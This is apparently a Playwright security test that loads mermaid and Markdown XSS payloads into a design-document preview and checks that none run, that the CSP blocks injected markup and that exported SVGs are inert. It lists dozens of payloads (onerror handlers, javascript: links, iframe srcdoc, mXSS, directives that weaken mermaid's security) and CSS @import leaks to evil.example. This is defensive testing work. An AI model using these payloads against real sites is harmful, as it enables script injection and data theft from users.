/**
 * No script from documents (issue 10): a project whose narrative holds mermaid and Markdown payloads
 * opens in the Design doc preview without running any of them, the legitimate ER diagram still
 * renders, and markup that slips past both sanitisers still cannot run (the page's CSP).
 *
 * Every payload sets `window.__pwned` to its own name, so a failure names the payload that ran.
 * Layers: mermaid 11.17 (strict, secure keys), DOMPurify on mermaid's SVG (sanitize-svg.ts) and on the
 * Markdown, and the CSP (proxy.ts). Mermaid 11.6.0 without a CSP ran the architecture-beta one.
 */
import { readFile } from 'node:fs/promises';
import { expect, test, type Page } from '@playwright/test';
import { documentOf, makeColumn, makeRelationship, makeTable, scalar } from '../lib/model/build';
import { createProjectViaApi, uniqueName } from './support/api';

const pwn = (name: string) => `window.__pwned='${name}'`;

/** Mermaid diagrams that have run script somewhere, or try to switch mermaid's defences off. */
const MERMAID_PAYLOADS: readonly { name: string; diagram: string; parses: boolean }[] = [
  // The advisory (GHSA-8gwm-58g9-j8pw): architecture service iconText went to d3 .html(). The
  // `("…")` spelling is 11.6's; 11.17 reads iconText from a plain string.
  { name: 'architecture-iconText-11.6', diagram: `architecture-beta\n    group api(cloud)[API]\n    service srv("<img src=x onerror=${pwn('architecture-11.6')}>")[Server] in api`, parses: false },
  { name: 'architecture-iconText', diagram: `architecture-beta\n    service srv "<img src=x onerror=${pwn('architecture')}>" [Server]\n    service db(database)[DB]\n    srv:R -- L:db`, parses: true },
  { name: 'flowchart-img-label', diagram: `flowchart LR\n    A["<img src=x onerror=${pwn('flowchart-img')}>"] --> B`, parses: true },
  { name: 'flowchart-script-label', diagram: `flowchart LR\n    S["<script>${pwn('flowchart-script')}</script>"] --> T`, parses: true },
  { name: 'flowchart-svg-foreignObject', diagram: `flowchart LR\n    G["<svg><foreignObject><img src=x onerror=${pwn('foreignObject')}></foreignObject></svg>"] --> H`, parses: true },
  // Click callbacks and javascript: links, with an attempt to lower the security level first.
  {
    name: 'click-callbacks',
    diagram: `%%{init: {"securityLevel": "loose"}}%%\nflowchart LR\n    C1[click one] --> C2[click two] --> C3[click three] --> C4[click four]\n    click C1 call eval("${pwn('click-call')}")\n    click C2 "javascript:${pwn('click-href')}"\n    click C3 href "javascript:${pwn('click-href2')}" "a tooltip"\n    click C4 eval "a tooltip"`,
    parses: true,
  },
  // GHSA-7rqq-prvp-x9jh: sequence labels with KaTeX went to innerHTML while measuring.
  { name: 'sequence-katex-label', diagram: `sequenceDiagram\n    Alice->>Bob: $$x^2$$ <img src=x onerror=${pwn('katex')}>`, parses: true },
  { name: 'er-entity-and-comment', diagram: `erDiagram\n    "ENTITY<img src=x onerror=${pwn('er-name')}>" {\n        int id "<script>${pwn('er-script')}</script><img src=x onerror=${pwn('er-comment')}>"\n    }`, parses: true },
  // Directives that would widen what mermaid lets through (dropped: secure keys).
  { name: 'init-dompurifyConfig', diagram: `%%{init: {"dompurifyConfig": {"ADD_TAGS": ["img", "iframe"], "ADD_ATTR": ["onerror", "srcdoc"]}}}%%\nflowchart LR\n    D["<img src=x onerror=${pwn('dompurifyConfig')}>"] --> E`, parses: true },
  { name: 'init-htmlLabels-iframe', diagram: `%%{init: {"htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\nflowchart LR\n    F1["<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>"] --> F2["<a href='javascript:${pwn('label-link')}'>label link</a>"]`, parses: true },
  // Style injection: CSS that would load from elsewhere (exfiltration); the CSP stops the loads.
  { name: 'init-themeCSS', diagram: `%%{init: {"themeCSS": ".node rect { fill: url(https://evil.example/leak) } @import url(https://evil.example/x.css);"}}%%\nflowchart LR\n    P --> Q`, parses: true },
  { name: 'classDef-style', diagram: `flowchart LR\n    K --> L\n    classDef evil fill:#f00,stroke:#0f0\n    class K evil\n    style L fill:#00f`, parses: true },
];

/** Markdown/HTML in a narrative section (sanitised by DOMPurify; the CSP behind it). */
const MARKDOWN_PAYLOADS: readonly string[] = [
  `<img src=x onerror="${pwn('md-img')}">`,
  `<script>${pwn('md-script')}</script>`,
  `[a javascript: link](javascript:${pwn('md-link')})`,
  `<a href="javascript:${pwn('md-a')}">an html javascript: link</a>`,
  `[a data: link](data:text/html,<script>${pwn('md-data')}</script>)`,
  `<svg><script>${pwn('md-svg-script')}</script></svg>`,
  `<svg onload="${pwn('md-svg-onload')}"></svg>`,
  `<iframe srcdoc="<script>parent.__pwned='md-iframe'</script>"></iframe>`,
  `<details open ontoggle="${pwn('md-details')}"><summary>details</summary></details>`,
  `<form action="javascript:${pwn('md-form')}"><button>submit</button></form>`,
  `<input autofocus onfocus="${pwn('md-input')}">`,
  `<object data="javascript:${pwn('md-object')}"></object>`,
  `<embed src="javascript:${pwn('md-embed')}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${pwn('md-meta')}">`,
  `<base href="https://evil.example/">`,
  `<style>@import url(https://evil.example/md.css); body { background: url(https://evil.example/md-bg) }</style>`,
  `![a remote image](https://evil.example/track.png)`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${pwn('md-mxss')}">`,
  `<noscript><p title="</noscript><img src=x onerror=${pwn('md-noscript')}>">`,
];

function documentWithPayloads() {
  const users = makeTable({
    id: 't_users',
    name: 'users',
    columns: [makeColumn({ id: 'c_users_id', name: 'id', type: scalar('bigint'), nullable: false }), makeColumn({ id: 'c_users_email', name: 'email', type: scalar('text'), nullable: false })],
    primaryKey: { columnIds: ['c_users_id'] },
  });
  const orders = makeTable({
    id: 't_orders',
    name: 'orders',
    columns: [makeColumn({ id: 'c_orders_id', name: 'id', type: scalar('bigint'), nullable: false }), makeColumn({ id: 'c_orders_user', name: 'user_id', type: scalar('bigint'), nullable: false })],
    primaryKey: { columnIds: ['c_orders_id'] },
  });
  const doc = documentOf({
    tables: [users, orders],
    relationships: [makeRelationship({ id: 'r_orders_user', fromTableId: 't_orders', toTableId: 't_users', columnPairs: [{ fromColumnId: 'c_orders_user', toColumnId: 'c_users_id' }] })],
  });
  doc.design.narrative.executiveSummary = MERMAID_PAYLOADS.map((p) => `Payload ${p.name}:\n\n\`\`\`mermaid\n${p.diagram}\n\`\`\`\n`).join('\n');
  doc.design.narrative.security = MARKDOWN_PAYLOADS.map((p, i) => `${i + 1}. ${p}`).join('\n\n');
  return doc;
}

async function watch(page: Page) {
  // Requests that really leave (the CSP refuses most before they are sent; those never get here).
  const external: string[] = [];
  await page.route(/^https?:\/\/(?!127\.0\.0\.1:)/, (route) => {
    external.push(route.request().url());
    return route.abort();
  });
  await page.addInitScript(() => {
    const w = window as unknown as { __violations: string[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => w.__violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
  });
  return {
    external,
    pwned: () => page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned),
    violations: () => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations),
  };
}

test('mermaid and Markdown payloads in the narrative do not run; the ER diagram still renders', async ({ page }) => {
  test.setTimeout(120_000);
  const project = await createProjectViaApi(page.request, { name: uniqueName('XSS payloads'), document: documentWithPayloads() });
  const seen = await watch(page);
  // Anything that tries to leave the page (a javascript: navigation, a meta refresh) is refused.
  page.on('dialog', (d) => void d.dismiss());
  await page.goto(`/projects/${project.id}`);
  await page.getByRole('tab', { name: 'Design doc' }).click();
  await page.getByRole('tab', { name: 'Preview' }).click();
  const preview = page.getByTestId('design-doc-preview');
  await expect(preview).toHaveAttribute('data-rendered', 'true', { timeout: 60_000 });

  // Each payload diagram was really drawn (a parse error would test nothing), except the 11.6 spelling.
  const holders = preview.locator('.design-doc-mermaid');
  const drawn = new Map(
    await holders.evaluateAll((els) => els.map((e) => [(e.previousElementSibling?.textContent ?? '').replace(/^Payload (.*):$/, '$1'), e.querySelector('svg') ? 'svg' : (e.textContent ?? '').slice(0, 80)] as [string, string])),
  );
  for (const p of MERMAID_PAYLOADS) expect(drawn.get(p.name) === 'svg', `${p.name}: ${drawn.get(p.name)}`).toBe(p.parses);

  // Click every node label and link the payloads put in the diagrams and the Markdown.
  for (const text of ['click one', 'click two', 'click three', 'click four', 'label link', 'an html javascript: link', 'a javascript: link', 'a data: link', 'details', 'submit']) {
    const target = preview.getByText(text, { exact: true }).first();
    if (await target.count()) await target.click({ force: true, timeout: 2_000 }).catch(() => undefined);
  }
  await page.waitForTimeout(1_000);
  expect(await seen.pwned()).toBeUndefined();
  expect(page.url()).toContain(`/projects/${project.id}`);
  expect(seen.external).toEqual([]);
  // Nothing executable is left in the preview.
  await expect(preview.locator('script, iframe, object, embed, form, img[onerror], [onload], [onclick], a[href^="javascript:"], a[href^="data:"], base, meta')).toHaveCount(0);

  // The legitimate ER diagrams (the document's tables) render, with mermaid's styles: the conceptual
  // one (entities only) and the physical one (columns) under Physical Implementation.
  expect(drawn.get('Conceptual Model')).toBe('svg');
  const conceptual = holders.nth([...drawn.keys()].indexOf('Conceptual Model')).locator('svg');
  const entities = await conceptual.evaluate((svg) => Array.from(svg.querySelectorAll('g.node')).map((n) => n.textContent ?? ''));
  expect(entities.some((l) => l.includes('users'))).toBe(true);
  expect(drawn.get('Physical Implementation')).toBe('svg');
  const er = holders.nth([...drawn.keys()].indexOf('Physical Implementation')).locator('svg');
  const labels = await er.evaluate((svg) => Array.from(svg.querySelectorAll('g.node')).map((n) => n.textContent ?? ''));
  expect(labels.some((l) => l.includes('users') && l.includes('email'))).toBe(true);
  expect(labels.some((l) => l.includes('orders') && l.includes('user_id'))).toBe(true);
  expect(await er.locator('style').count()).toBeGreaterThan(0);
  const box = await er.evaluate((svg) => {
    const rect = svg.querySelector('g.node rect, rect.er.entityBox, rect');
    return rect ? getComputedStyle(rect).fill : 'none';
  });
  expect(box, 'entity boxes are filled by mermaid’s stylesheet, not black').not.toMatch(/^(rgb\(0, 0, 0\)|none)$/);

  const violations = await seen.violations();
  console.log(`[measure] CSP refusals while the payloads rendered: ${JSON.stringify(Object.entries(violations.reduce<Record<string, number>>((m, v) => ({ ...m, [v]: (m[v] ?? 0) + 1 }), {})))}`);
});

test('markup that slips past the sanitisers still cannot run (the page CSP)', async ({ page, request }) => {
  const project = await createProjectViaApi(request, { name: uniqueName('CSP backstop') });
  const seen = await watch(page);
  await page.goto(`/projects/${project.id}`);
  await expect(page.getByRole('tab', { name: 'Design doc' })).toBeVisible();
  // As if a sanitiser had let these through into the page: HTML injection, the way documents get in.
  await page.evaluate(() => {
    const holder = document.createElement('div');
    holder.innerHTML = [
      `<img src="x-missing" onerror="window.__pwned='attr-handler'">`,
      `<svg><image href="x-missing" onerror="window.__pwned='svg-handler'"></image></svg>`,
      `<iframe srcdoc="<script>parent.__pwned='srcdoc'</script>"></iframe>`,
      `<a id="js-link" href="javascript:window.__pwned='js-url'">js link</a>`,
      `<object data="data:text/html,<script>parent.__pwned='object'</script>"></object>`,
    ].join('');
    document.body.append(holder);
    // Parser-inserted script (document.write-like): needs the nonce, which a document cannot know.
    const range = document.createRange();
    range.selectNode(document.body);
    document.body.append(range.createContextualFragment(`<script>window.__pwned='contextual-script'</script>`));
  });
  await page.locator('#js-link').click();
  await page.waitForTimeout(1_000);
  expect(await seen.pwned()).toBeUndefined();
  const violations = await seen.violations();
  expect(violations.some((v) => v.startsWith('script-src-attr'))).toBe(true);
  expect(violations.some((v) => v.startsWith('script-src-elem') || v.startsWith('script-src '))).toBe(true);
});

for (const picture of ['ER diagram (mermaid) (SVG)', 'Canvas as laid out (SVG)']) {
test(`the downloaded ${picture} holds nothing that runs`, async ({ page, request }) => {
  const doc = documentWithPayloads();
  doc.tables.t_users.name = `users<img src=x onerror=${pwn('svg-file')}>`;
  doc.tables.t_users.comment = `<script>${pwn('svg-file-comment')}</script>`;
  const project = await createProjectViaApi(request, { name: uniqueName('SVG file'), document: doc });
  await page.goto(`/projects/${project.id}`);
  await page.getByRole('button', { name: 'Download files' }).click();
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('menuitem', { name: picture }).click()]);
  const svg = await readFile(await download.path(), 'utf8');
  expect(svg.startsWith('<svg')).toBe(true);
  expect(svg).toContain('orders');
  // Names are text in it (escaped), never markup: nothing that runs, loads or navigates.
  await page.goto('about:blank');
  const found = await page.evaluate((text) => {
    const file = new DOMParser().parseFromString(text, 'image/svg+xml');
    if (file.querySelector('parsererror')) return ['not well-formed XML'];
    const bad = Array.from(file.querySelectorAll('script, iframe, img, image, a, use, object, embed, foreignObject, set, animate')).map((e) => `<${e.tagName}>`);
    for (const e of Array.from(file.querySelectorAll('*'))) {
      for (const a of Array.from(e.attributes)) if (/^on/i.test(a.name) || /^\s*javascript:/i.test(a.value) || /href$/i.test(a.name)) bad.push(`${e.tagName} ${a.name}=${a.value}`);
    }
    return bad;
  }, svg);
  expect(found).toEqual([]);
  expect(svg).toContain('users&lt;img');
  // Opened on its own (no CSP around it), it still runs nothing.
  await page.setContent(svg);
  await page.waitForTimeout(500);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
});
}
